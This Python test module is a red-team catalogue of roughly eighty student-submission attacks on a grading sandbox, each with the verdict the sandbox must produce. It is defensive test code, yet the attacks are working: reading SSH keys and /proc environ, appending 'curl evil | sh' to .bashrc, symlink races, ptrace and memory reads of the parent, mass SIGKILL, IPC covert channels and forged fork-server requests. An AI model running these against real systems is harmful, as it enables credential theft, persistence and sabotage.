"""The red-team catalogue: student files (as jeux.py, question q1) that attack the grader, each with the
verdict it must get. Written for this suite; each targets one thing a student owning the child could
try. Every attack does its harm first and only then returns q1's right answer, so that an attack that
worked shows in the verdict (`passed` where `error` was expected) as well as in the side effects the
scene checks (tests/attacks/scene.py).

Sources are string.Template texts: $home (the teacher's $HOME), $checkout (the grader's sources),
$site (the venv's site-packages), $cache (the grader's cache), $out (the output folder), $victim (a
classmate's submission file), $tmp (the run's temporary folder, where the children's folders are),
$port (a TCP port the scene listens on), $dgram and $stream (pathname Unix sockets the scene listens on,
writable by anyone: a datagram one and a stream one), $tag (a marker for files an attack might create
outside, and for the POSIX message queues the scene makes: /attack-$tag-accomplice, anyone's to write,
and /attack-$tag-teacher, the teacher's own), $ipc_key (the System V key of the accomplice's queue; + 1
its shared memory, + 2 its semaphores, + 3 a queue of the teacher's own), $answer (q1's right answer).
"""
from __future__ import annotations

ANSWER = "[1, 2, 4, 5, 10, 20, 21, 42]"

# The pids a child may try to reach: those just before and after its parent's (the grader's workers,
# the supervisor, the teacher's processes started about then), itself excepted.
AROUND = (
    "def _around():\n"
    "    me, parent = os.getpid(), os.getppid()\n"
    "    return [p for p in range(max(1, parent - 3000), parent + 3000) if p != me]\n"
)
# Verdicts that differ where the child has no mount namespace (an ordinary teacher without user
# namespaces): what remains visible there (docs/sandbox.md, "What the sandbox promises").
WITHOUT_MOUNT_NAMESPACE = {"stat_ssh_key": "passed"}

# System calls made by number (some have no wrapper in the C library), this architecture's.
NUMBERS = (
    "NUMBER = {'x86_64': dict(add_key=248, perf_event_open=298, bpf=321, io_uring_setup=425, userfaultfd=323,\n"
    "                         pidfd_open=434, pidfd_getfd=438, kcmp=312, mincore=27, cachestat=451, futex=202,\n"
    "                         sysinfo=99),\n"
    "          'aarch64': dict(add_key=217, perf_event_open=241, bpf=280, io_uring_setup=425, userfaultfd=282,\n"
    "                          pidfd_open=434, pidfd_getfd=438, kcmp=272, mincore=232, cachestat=451, futex=98,\n"
    "                          sysinfo=179)}[os.uname().machine]\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.shmat.restype = ctypes.c_void_p\n"
)
# A door of the kernel the child must find shut: the call, and what it raises when it is.
DOOR = "if libc.syscall(NUMBER['{name}'], {args}) < 0:\n    raise OSError(ctypes.get_errno(), '{name}')"

# name: (expected status of q1, body of solution_42 before `return ANSWER`, module-level prelude)
ATTACKS: dict[str, tuple[str, str, str]] = {
    # -- reading what a student must not read ---------------------------------------------------------
    "read_reference": ("error", "open('$checkout/reference/answers/jeux.py').read()", ""),
    "import_reference": ("error", "sys.path.insert(0, '$checkout')\n"
                                  "import reference.answers.jeux\nreturn reference.answers.jeux.solution_42()", "import sys"),
    "exec_sample_student": ("error", "exec(open('$checkout/exercises/exemples/alice/jeux.py').read(), globals())", ""),
    "read_grader_source": ("error", "open('$checkout/grader/questions/jeux/searches.py').read()", ""),
    "read_ssh_key": ("error", "open('$home/.ssh/id_ed25519').read()", ""),
    "read_classmate": ("error", "open('$victim').read()", ""),
    "list_children_folders": ("error", "print(os.listdir('$tmp'))", "import os"),
    "proc_environ_of_parent": ("error", "open(f'/proc/{os.getppid()}/environ', 'rb').read()", "import os"),
    # -- writing where a student must not write -------------------------------------------------------
    "write_bashrc": ("error", "open('$home/.bashrc', 'a').write('curl evil | sh\\n')", ""),
    "pth_into_venv": ("error", "open('$site/zz_evil.pth', 'w').write('import os\\n')", ""),
    "poison_cache": ("error", "open('$cache/patterns.bin', 'wb').write(b'poison')", ""),
    "append_to_report_code": ("error", "open('$checkout/reports/render.py', 'a').write('\\n# evil\\n')", ""),
    "rewrite_results": ("error", "open('$out/results.json', 'w').write('{}')", ""),
    "rewrite_classmate": ("error", "open('$victim', 'w').write('def solution_42():\\n    return []\\n')", ""),
    "write_tmp": ("error", "open('/tmp/attack-$tag-tmp', 'w').write('x')", ""),
    "write_dev_shm": ("error", "open('/dev/shm/attack-$tag-shm', 'w').write('x')", ""),
    "dir_fd_write": ("error", "home = os.open('$home', os.O_RDONLY | os.O_DIRECTORY)\n"
                              "os.write(os.open('.profile', os.O_WRONLY | os.O_CREAT | os.O_APPEND, dir_fd=home), b'x')",
                     "import os"),
    "hard_link_out": ("error", "os.link('$home/.bashrc', 'mine')\nopen('mine', 'a').write('evil\\n')", "import os"),
    "symlink_out": ("error", "os.symlink('$home/.bashrc', 'mine')\nopen('mine', 'a').write('evil\\n')", "import os"),
    "rename_out": ("error", "open('mine', 'w').write('evil')\nos.rename('mine', '$home/.bash_aliases')", "import os"),
    "symlink_race": ("passed", (
        "stop = []\n"
        "def swap():\n"
        "    while not stop:\n"
        "        for target in ('plain', '$home/.bashrc'):\n"
        "            try:\n"
        "                os.remove('link')\n"
        "            except OSError:\n"
        "                pass\n"
        "            try:\n"
        "                os.symlink(target, 'link')\n"
        "            except OSError:\n"
        "                pass\n"
        "open('plain', 'w').close()\n"
        "worker = threading.Thread(target=swap)\n"
        "worker.start()\n"
        "for _ in range(3000):\n"
        "    try:\n"
        "        with open('link', 'a') as file:\n"
        "            file.write('race\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "stop.append(1)\n"
        "worker.join()"), "import os, threading"),
    # -- processes, other processes ---------------------------------------------------------------------
    "fork": ("error", "os.fork()", "import os"),
    "subprocess": ("error", "subprocess.run(['/bin/sh', '-c', 'touch /tmp/attack-$tag-sh'], check=True)",
                   "import subprocess"),
    "posixsubprocess_fork_exec": ("error", (
        "import _posixsubprocess\n"
        "r, w = os.pipe()\n"
        "_posixsubprocess.fork_exec(['/bin/touch', '/tmp/attack-$tag-fe'], [b'/bin/touch'], True, (w,), None,\n"
        "    None, -1, -1, -1, -1, -1, -1, r, w, True, False, None, None, None, -1, None, False)"), "import os"),
    "ptrace_parent": ("error", (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.ptrace(16, os.getppid(), 0, 0) != 0:  # PTRACE_ATTACH\n"
        "    raise OSError(ctypes.get_errno(), 'ptrace')"), "import ctypes, os"),
    "process_vm_readv_parent": ("error", (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "buffer = ctypes.create_string_buffer(64)\n"
        "local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 64)\n"
        "remote = (ctypes.c_void_p * 2)(0x400000, 64)\n"
        "if libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) < 0:\n"
        "    raise OSError(ctypes.get_errno(), 'process_vm_readv')"), "import ctypes, os"),
    "kill_parent": ("error", "os.kill(os.getppid(), signal.SIGKILL)", "import os, signal"),
    "kill_everything": ("error", "os.kill(-1, signal.SIGKILL)", "import os, signal"),
    "kill_process_group": ("error", "os.killpg(0, signal.SIGKILL)", "import os, signal"),
    "kill_siblings_by_proc": ("error", (
        "for entry in os.listdir('/proc'):\n"
        "    if entry.isdigit() and int(entry) != os.getpid():\n"
        "        os.kill(int(entry), signal.SIGKILL)"), "import os, signal"),
    # In a user namespace the child is already uid 0 there, without any capability: setgroups tells.
    "become_root": ("error", "os.setuid(0)\nos.setgid(0)\nos.setgroups([0])", "import os"),
    "new_namespaces": ("error", (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS\n"
        "    raise OSError(ctypes.get_errno(), 'unshare')"), "import ctypes"),
    "undo_no_new_privs": ("error", (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.prctl(38, 0, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS cannot be unset; then try the forbidden again\n"
        "open('$checkout/reference/answers/jeux.py').read()"), "import ctypes"),
    "threads_outlive": ("passed", (
        "threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()"), "import threading"),
    # -- what Landlock does not cover: metadata, socket addresses, other processes of the same uid -------
    # (the teacher's uid without a user namespace: the kernel's permission checks would let each through)
    "chmod_teacher_files": ("error", (
        "for path in ('$home', '$home/.ssh', '$home/.ssh/id_ed25519', '$cache', '$site'):\n"
        "    os.chmod(path, 0o777)"), "import os"),
    "fchmodat_ssh_key": ("error", (
        "ssh = os.open('$home/.ssh', os.O_PATH | os.O_DIRECTORY)\n"
        "os.chmod('id_ed25519', 0o666, dir_fd=ssh)"), "import os"),
    # A chmod that changes nothing is answered in the child, but only for a file of its folder (shelve and
    # dbm ask for one: confine.chmod_unchanged): through a link of its folder, the teacher's file is refused.
    "chmod_unchanged_through_link": ("error", (
        "os.symlink('$home/.bashrc', 'mine')\n"
        "os.chmod('mine', os.stat('mine').st_mode & 0o7777)"), "import os"),
    "chown_teacher_file": ("error", "os.chown('$home/.bashrc', os.getuid(), os.getgid())", "import os"),
    "utimensat_dotfile": ("error", "os.utime('$home/.profile', (0, 0))\nos.utime('$cache/patterns.bin', (0, 0))",
                          "import os"),
    "setxattr_teacher_file": ("error", "os.setxattr('$home/.bashrc', 'user.taquin', b'evil')", "import os"),
    # The standard library the children import from, which may be the copy kept in the teacher's cache: emptied
    # by name or by a read-only open with O_TRUNC (Landlock cannot refuse either before its ABI 3; red team 10).
    "truncate_imported_stdlib": ("error", "os.truncate(json.decoder.__file__, 0)", "import json.decoder, os"),
    "read_open_truncating_stdlib": ("error", "os.open(json.decoder.__file__, os.O_RDONLY | os.O_TRUNC)",
                                    "import json.decoder, os"),
    # The size, mode and times of the teacher's key: nothing there where the child has a private root;
    # without a mount namespace a name can still be looked up (tests/test_attacks.py, docs/sandbox.md).
    "stat_ssh_key": ("error", "info = os.stat('$home/.ssh/id_ed25519')\nprint(info.st_size, oct(info.st_mode))",
                     "import os"),
    # Datagrams and connections to pathname Unix sockets, from the only sockets a child can make.
    "sendto_unix_socket": ("error", (
        "sent = 0\n"
        "for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n"
        "    try:\n"
        "        a, b = socket.socketpair(socket.AF_UNIX, kind)\n"
        "        a.sendto(b'leak', '$dgram')\n"
        "        sent += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n"
        "    socket.socketpair()[0].sendmsg([b'leak'], [], 0, '$dgram')\n"
        "    sent += 1\n"
        "except OSError:\n"
        "    pass\n"
        "if not sent:\n"
        "    raise PermissionError('nothing sent')"), "import socket"),
    "connect_unix_socket": ("error", "a, b = socket.socketpair()\na.connect('$stream')", "import socket"),
    "bind_and_listen": ("error", "a, b = socket.socketpair()\na.bind('\\0taquin-attack-$tag')\na.listen()",
                        "import socket"),
    # Without a PID namespace, the grader's workers, the supervisor and the teacher's session share the
    # child's uid: renice them, starve them of CPU time (RLIMIT_CPU kills with SIGXCPU), pin them, slow
    # their disk. Each raises when it reached no process but itself.
    "renice_the_teacher": ("error", (
        "reached = 0\n"
        "for which, who in [(os.PRIO_USER, 0), (os.PRIO_PGRP, 0)] + [(os.PRIO_PROCESS, p) for p in _around()]:\n"
        "    try:\n"
        "        os.setpriority(which, who, 19)\n"
        "        reached += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "if not reached:\n"
        "    raise PermissionError('nobody reniced')"), "import os\n\n\n" + AROUND),
    "prlimit_the_grader": ("error", (
        "reached = 0\n"
        "for pid in _around():\n"
        "    try:\n"
        "        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 2))\n"
        "        reached += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "if not reached:\n"
        "    raise PermissionError('no limit set')"), "import os, resource\n\n\n" + AROUND),
    "pin_the_teacher": ("error", (
        "reached = 0\n"
        "for pid in _around():\n"
        "    try:\n"
        "        os.sched_setaffinity(pid, {0})\n"
        "        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))\n"
        "        reached += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "if not reached:\n"
        "    raise PermissionError('nobody pinned')"), "import os\n\n\n" + AROUND),
    "ioprio_the_teacher": ("error", (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "ioprio_set, idle = {'x86_64': 251, 'aarch64': 30}[os.uname().machine], 3 << 13  # IOPRIO_CLASS_IDLE\n"
        "reached = libc.syscall(ioprio_set, 3, 0, idle) == 0  # IOPRIO_WHO_USER: every process of the uid\n"
        "for pid in _around():\n"
        "    reached += libc.syscall(ioprio_set, 1, pid, idle) == 0\n"
        "if not reached:\n"
        "    raise PermissionError('no priority set')"), "import ctypes, os\n\n\n" + AROUND),
    # What another process set of its own (CPUs, nice value, scheduling, group) or how much CPU it used:
    # the receiving end of a channel from a classmate's child graded at the same time. Raises when nothing
    # of any other process was read.
    "read_other_processes": ("error", (
        "read = 0\n"
        "for pid in _around():\n"
        "    for look in (os.sched_getaffinity, lambda p: os.getpriority(os.PRIO_PROCESS, p), os.sched_getscheduler,\n"
        "                 os.getpgid, lambda p: time.clock_gettime(((~p) << 3) | 2)):\n"
        "        try:\n"
        "            look(pid)\n"
        "            read += 1\n"
        "        except OSError:\n"
        "            pass\n"
        "if not read:\n"
        "    raise PermissionError('nothing read')"), "import os, time\n\n\n" + AROUND),
    # SIGIO, the default action of which ends a process, sent by the kernel to a pipe's owner.
    "sigio_parent": ("error", (
        "r, w = os.pipe()\n"
        "fcntl.fcntl(r, fcntl.F_SETOWN, os.getppid())\n"
        "fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)\n"
        "os.write(w, b'x')"), "import fcntl, os"),
    # -- kernel objects others can name: System V IPC, POSIX queues, watches, locks, keys --------------------
    # The accomplice's queue, shared memory and semaphores (made by the scene, anyone's to use). Raises when
    # none of the three was reached.
    "sysv_to_accomplice": ("error", (
        "reached = []\n"
        "queue = libc.msgget($ipc_key, 0)\n"
        "if queue >= 0 and libc.msgsnd(queue, struct.pack('q', 1) + b'leak', 4, 0o4000) == 0:  # IPC_NOWAIT\n"
        "    reached.append('msg')\n"
        "memory = libc.shmget($ipc_key + 1, 0, 0)\n"
        "address = libc.shmat(memory, None, 0) if memory >= 0 else None\n"
        "if address not in (None, 2**64 - 1):\n"
        "    ctypes.memmove(address, b'leak', 4)\n"
        "    reached.append('shm')\n"
        "semaphores = libc.semget($ipc_key + 2, 0, 0)\n"
        "if semaphores >= 0 and libc.semop(semaphores, struct.pack('Hhh', 0, 1, 0), 1) == 0:\n"
        "    reached.append('sem')\n"
        "if not reached:\n"
        "    raise PermissionError('nothing reached the accomplice')"), "import ctypes, os, struct\n" + NUMBERS),
    # 256 MiB of shared memory written and let go (outside the child's memory limit once detached), a queue
    # and semaphores: all would outlive the child. Raises when nothing was made.
    "sysv_left_behind": ("error", (
        "made = 0\n"
        "for _ in range(4):\n"
        "    memory = libc.shmget(0, 64 << 20, 0o1666)  # IPC_PRIVATE | IPC_CREAT\n"
        "    address = libc.shmat(memory, None, 0) if memory >= 0 else None\n"
        "    if address not in (None, 2**64 - 1):\n"
        "        ctypes.memset(address, 1, 64 << 20)\n"
        "        libc.shmdt(ctypes.c_void_p(address))\n"
        "        made += 1\n"
        "made += libc.msgget(0, 0o1666) >= 0\n"
        "made += libc.semget(0, 8, 0o1666) >= 0\n"
        "if not made:\n"
        "    raise PermissionError('nothing made')"), "import ctypes, os\n" + NUMBERS),
    # A queue of the teacher's own (mode 0600), removed: the child has her uid where there is no user namespace.
    "sysv_remove_teachers": ("error", (
        "queue = libc.msgget($ipc_key + 3, 0)\n"
        "if queue < 0 or libc.msgctl(queue, 0, None) != 0:  # IPC_RMID\n"
        "    raise OSError(ctypes.get_errno(), 'msgctl')"), "import ctypes, os\n" + NUMBERS),
    # A message to the accomplice's POSIX queue, a queue left behind (mq_open makes it before Landlock refuses
    # the open), the teacher's own queue removed. Raises when none of the three worked.
    "posix_mqueue": ("error", (
        "done = []\n"
        "queue = libc.mq_open(b'/attack-$tag-accomplice', os.O_WRONLY | os.O_NONBLOCK)\n"
        "if queue >= 0 and libc.mq_send(queue, b'leak', 4, 0) == 0:\n"
        "    done.append('sent')\n"
        "if libc.mq_open(b'/attack-$tag-left', os.O_CREAT | os.O_RDWR, 0o666, None) >= 0:\n"
        "    done.append('made')\n"
        "if libc.mq_unlink(b'/attack-$tag-teacher') == 0:\n"
        "    done.append('removed')\n"
        "if not done:\n"
        "    raise PermissionError('no queue reached')"), "import ctypes, os\n" + NUMBERS),
    # The accomplice's POSIX shared memory (shm_open is an open of /dev/shm).
    "dev_shm_of_accomplice": ("error", "open('/dev/shm/accomplice-$tag', 'a').write('leak')", ""),
    # Live names of files under the teacher's $HOME, /tmp (the classmates' folders) and /: Landlock has no
    # say on a watch. Raises when no watch was set.
    "inotify_watch_home": ("error", (
        "watcher = libc.inotify_init1(os.O_NONBLOCK)\n"
        "if watcher < 0:\n"
        "    raise OSError(ctypes.get_errno(), 'inotify_init1')\n"
        "watched = [p for p in ('$home', '$tmp', '/tmp', '/') if libc.inotify_add_watch(watcher, p.encode(), 0xFFF) >= 0]\n"
        "if not watched:\n"
        "    raise PermissionError('no watch')\n"
        "time.sleep(0.3)\n"
        "try:\n"
        "    print(os.read(watcher, 4096))\n"
        "except BlockingIOError:\n"
        "    pass"), "import ctypes, os, time\n" + NUMBERS),
    # A lock, a lease or a directory notification on a file every process may open (the standard library's):
    # one bit at a time to a classmate's child or an accomplice that tests it. Raises when none was taken.
    "file_lock_channel": ("error", (
        "taken = 0\n"
        "file, folder = json.__file__, os.path.dirname(json.__file__)\n"
        "for take in (lambda: fcntl.flock(os.open(file, os.O_RDONLY), fcntl.LOCK_SH | fcntl.LOCK_NB),\n"
        "             lambda: fcntl.lockf(os.open(file, os.O_RDONLY), fcntl.LOCK_SH | fcntl.LOCK_NB),\n"
        "             lambda: fcntl.fcntl(os.open(file, os.O_RDONLY), 1024, fcntl.F_RDLCK),  # F_SETLEASE\n"
        "             lambda: fcntl.fcntl(os.open(folder, os.O_RDONLY), 1026, 0x80000002)):  # F_NOTIFY\n"
        "    try:\n"
        "        take()\n"
        "        taken += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "if not taken:\n"
        "    raise PermissionError('no lock taken')"), "import fcntl, json, os"),
    # The page cache of the same file as a channel that can be written and read again: its pages let go
    # (fadvise DONTNEED), then asked for without loading them (preadv2 RWF_NOWAIT, mincore, cachestat).
    # Raises when none of the four worked.
    "page_cache_channel": ("error", (
        "worked = 0\n"
        "fd = os.open(json.__file__, os.O_RDONLY)\n"
        "libc.mmap.restype = ctypes.c_void_p\n"
        "libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]\n"
        "page = ctypes.c_void_p(libc.mmap(None, 4096, 1, 2, fd, 0))  # PROT_READ, MAP_PRIVATE\n"
        "for probe in (lambda: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED),\n"
        "              lambda: os.preadv(fd, [bytearray(4096)], 0, os.RWF_NOWAIT),\n"
        "              lambda: libc.syscall(NUMBER['cachestat'], fd, bytes(16), bytes(64), 0) == 0 or 1 / 0,\n"
        "              lambda: libc.syscall(NUMBER['mincore'], page, 4096, bytes(1)) == 0 or 1 / 0):\n"
        "    try:\n"
        "        probe()\n"
        "        worked += 1\n"
        "    except (OSError, ZeroDivisionError):\n"
        "        pass\n"
        "if not worked:\n"
        "    raise PermissionError('no page asked for')"), "import ctypes, json, os\n" + NUMBERS),
    # Wakes, not process-private, on the first word of a standard-library file: they meet whoever waits
    # there (the scene's accomplice does). Raises when the kernel refused the wake.
    "futex_to_accomplice": ("error", (
        "libc.mmap.restype = ctypes.c_void_p\n"
        "libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]\n"
        "page = ctypes.c_void_p(libc.mmap(None, 4096, 1, 2, os.open(json.__file__, os.O_RDONLY), 0))\n"
        "woken, end = 0, time.monotonic() + 0.5\n"
        "while time.monotonic() < end:\n"
        "    count = libc.syscall(NUMBER['futex'], page, 1, 1 << 30, None)  # FUTEX_WAKE\n"
        "    if count < 0:\n"
        "        raise OSError(ctypes.get_errno(), 'futex')\n"
        "    woken += count\n"
        "print(woken)"), "import ctypes, json, os, time\n" + NUMBERS),
    # Counters of the whole machine that a classmate's child moves at will: the free space of the disk its
    # folder is on (where there is no tmpfs), the free memory and number of threads. Raises when none read.
    "machine_counters": ("error", (
        "read = 0\n"
        "for look in (lambda: os.statvfs('.'), lambda: os.statvfs(os.path.dirname(json.__file__)),\n"
        "             lambda: libc.syscall(NUMBER['sysinfo'], bytes(128)) == 0 or 1 / 0):\n"
        "    try:\n"
        "        look()\n"
        "        read += 1\n"
        "    except (OSError, ZeroDivisionError):\n"
        "        pass\n"
        "if not read:\n"
        "    raise PermissionError('no counter read')"), "import ctypes, json, os\n" + NUMBERS),
    # A key in the uid's keyring (the teacher's, where the child has her uid): it outlives the child.
    "keyring_left_behind": ("error", DOOR.format(name="add_key", args="b'user', b'attack-$tag', b'leak', 4, -4"),
                            "import ctypes, os\n" + NUMBERS),
    # Doors that seccomp already kept shut, tried again: the counters of another process (perf), a BPF map,
    # io_uring (whose operations would open sockets past the socket rules), userfaultfd (to stall the
    # kernel mid-copy), a descriptor of the parent's (pidfd_getfd), its files compared with ours (kcmp).
    "perf_event_parent": ("error", DOOR.format(name="perf_event_open",
                                               args="bytes([1, 0, 0, 0, 128] + [0] * 123), os.getppid(), -1, -1, 0"),
                          "import ctypes, os\n" + NUMBERS),
    "bpf_map": ("error", DOOR.format(name="bpf", args="0, struct.pack('IIII', 2, 4, 4, 1) + bytes(56), 72"),
                "import ctypes, os, struct\n" + NUMBERS),
    "io_uring": ("error", DOOR.format(name="io_uring_setup", args="1, bytes(120)"), "import ctypes, os\n" + NUMBERS),
    "userfaultfd": ("error", DOOR.format(name="userfaultfd", args="1"), "import ctypes, os\n" + NUMBERS),
    "pidfd_getfd_parent": ("error", (
        "pidfd = libc.syscall(NUMBER['pidfd_open'], os.getppid(), 0)\n"
        "if pidfd < 0 or libc.syscall(NUMBER['pidfd_getfd'], pidfd, 3, 0) < 0:\n"
        "    raise OSError(ctypes.get_errno(), 'pidfd_getfd')"), "import ctypes, os\n" + NUMBERS),
    "kcmp_parent": ("error", DOOR.format(name="kcmp", args="os.getpid(), os.getppid(), 0, 0, 0"),
                    "import ctypes, os\n" + NUMBERS),
    # Any process around, the classmates' children among them (PTRACE_SEIZE). Raises when none was seized.
    "ptrace_siblings": ("error", (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "if not any(libc.ptrace(0x4206, pid, 0, 0) == 0 for pid in _around()):\n"
        "    raise PermissionError('nobody seized')"), "import ctypes, os\n\n\n" + AROUND),
    # -- the fork server (grader/sandbox/zygote.py): unconfined, the child's ancestor ---------------------
    # Its control socket would start unconfined processes: any socket among the descriptors gets a
    # forged fork request carrying our own descriptors. Raises when there is no socket to use.
    "zygote_socket": ("error", (
        "found = [fd for fd in range(1024) if _is_socket(fd)]\n"
        "if not found:\n"
        "    raise OSError('no socket')\n"
        "request = json.dumps({'probe_modules': [], 'workdir': '$home', 'tmpfs': '-', 'namespaces': None,\n"
        "                      'mount_proc': False}).encode()\n"
        "for fd in found:\n"
        "    socket.send_fds(socket.socket(fileno=fd), [request], [0, 1, 2, 0, 0])"),
        "import json, os, socket, stat\n\n\n"
        "def _is_socket(fd):\n"
        "    try:\n"
        "        return stat.S_ISSOCK(os.fstat(fd).st_mode)\n"
        "    except OSError:\n"
        "        return False"),
    # Signal (stop, then kill) every process it might name: the zygote forked our supervisor shortly
    # before, so its pid is just below our parent's where pids are not namespaced. Raises when no
    # signal was delivered to anyone.
    "signal_zygote": ("error", (
        "me, parent = os.getpid(), os.getppid()\n"
        "delivered = 0\n"
        "for pid in [*range(max(2, parent - 20000), parent), *range(2, 1 << 15)]:\n"
        "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
        "        if pid != me:\n"
        "            try:\n"
        "                os.kill(pid, sig)\n"
        "                delivered += 1\n"
        "            except OSError:\n"
        "                pass\n"
        "if not delivered:\n"
        "    raise PermissionError('no signal delivered')"), "import os, signal"),
    # Read the memory of any process it might name (the zygote's is every child's starting point).
    "read_zygote_memory": ("error", (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "buffer = ctypes.create_string_buffer(64)\n"
        "local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 64)\n"
        "remote = (ctypes.c_void_p * 2)(id(None) & ~0xfff, 64)  # a heap address every fork shares\n"
        "parent, read = os.getppid(), 0\n"
        "for pid in [*range(max(1, parent - 2000), parent + 1), *range(1, 1 << 12)]:\n"
        "    if pid == os.getpid():\n"
        "        continue\n"
        "    if libc.process_vm_readv(pid, local, 1, remote, 1, 0) > 0:\n"
        "        read += 1\n"
        "    try:\n"
        "        with open(f'/proc/{pid}/mem', 'rb') as file:\n"
        "            file.seek(id(None) & ~0xfff)\n"
        "            read += bool(file.read(64))\n"
        "    except OSError:\n"
        "        pass\n"
        "if not read:\n"
        "    raise PermissionError('no memory read')"), "import ctypes, os"),
    # State left behind for the next child forked from the same zygote (it must start clean), and its
    # reader: finds a trace of any earlier child's, or raises. Which runs first varies; the sandbox's
    # own tests run them in order (tests/test_sandbox.py).
    "plant_state": ("passed", (
        "builtins.planted_by_a_classmate = True\n"
        "sys.modules['planted_by_a_classmate'] = sys\n"
        "os.environ['PLANTED_BY_A_CLASSMATE'] = '1'\n"
        "json.dumps = lambda *args, **kwargs: '[]'"), "import builtins, json, os, sys"),
    "find_planted_state": ("error", (
        "if (hasattr(builtins, 'planted_by_a_classmate') or 'planted_by_a_classmate' in sys.modules\n"
        "        or 'PLANTED_BY_A_CLASSMATE' in os.environ or json.dumps([1]) == '[]'):\n"
        "    return $answer\n"
        "raise LookupError('nothing planted')"), "import builtins, json, os, sys"),
    # -- network --------------------------------------------------------------------------------------
    "tcp_connect": ("error", "socket.create_connection(('127.0.0.1', $port), timeout=2)", "import socket"),
    "abstract_unix_socket": ("error", (
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ns.connect('\\0taquin-attack-$tag')"), "import socket"),
    # -- disk -----------------------------------------------------------------------------------------
    # Time-boxed well inside q1's limit (the scene's time floor): where there is no budget (no mount
    # namespace), the disk is real, and a loaded machine's disk is slow.
    "fill_disk": ("passed", (
        "end = time.monotonic() + 0.1\n"
        "try:\n"
        "    for i in range(20):  # just past Limits.disk_bytes\n"
        "        if time.monotonic() > end:\n"
        "            break\n"
        "        with open(f'fill{i}', 'wb') as file:\n"
        "            file.write(bytes(1 << 20))\n"
        "except OSError:\n"
        "    pass"), "import time"),
    "exhaust_inodes": ("passed", (
        "end = time.monotonic() + 0.1\n"
        "try:\n"
        "    for i in range(1100):  # just past Limits.disk_files\n"
        "        if time.monotonic() > end:\n"
        "            break\n"
        "        open(f'i{i}', 'w').close()\n"
        "except OSError:\n"
        "    pass"), "import time"),
    # Folders it may write in but nobody may list (chmod is refused: made so from the start).
    "unremovable_folder": ("passed", (
        "for folder in ('deep', 'deep/er', 'deep/er/est'):\n"
        "    os.mkdir(folder, 0o300)\n"
        "open('deep/er/est/f', 'w').write('x')"), "import os"),
    "links_for_the_cleanup": ("passed", "os.symlink('$home', 'home')\nos.symlink('$home/.bashrc', 'rc')\n"
                                        "os.symlink('/', 'everything')", "import os"),
    # -- the report as a weapon -----------------------------------------------------------------------
    "huge_reply": ("failed", "return list(range(400_000))", ""),
    "escape_sequences": ("error", "print('\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07')\n"
                                  "raise ValueError('\\x1b[1A\\x1b[2K\\r  q1  20/20 passed')", ""),
    "nan_answer": ("failed", "return [1, float('nan'), 42]", ""),
    "forged_reply": ("crashed", (
        "for fd in range(3, 1024):\n"
        "    try:\n"
        "        os.write(fd, struct.pack('>I', 2) + b'{}')\n"
        "    except OSError:\n"
        "        pass"), "import os, struct"),
}


def source(name: str, **where) -> str:
    """The attack's jeux.py, with the scene's paths filled in."""
    from string import Template

    status, body, prelude = ATTACKS[name]
    indented = "\n".join("    " + line for line in Template(body).substitute(where, answer=ANSWER).splitlines())
    return f"{Template(prelude).substitute(where)}\n\n\ndef solution_42():\n{indented}\n    return {ANSWER}\n"
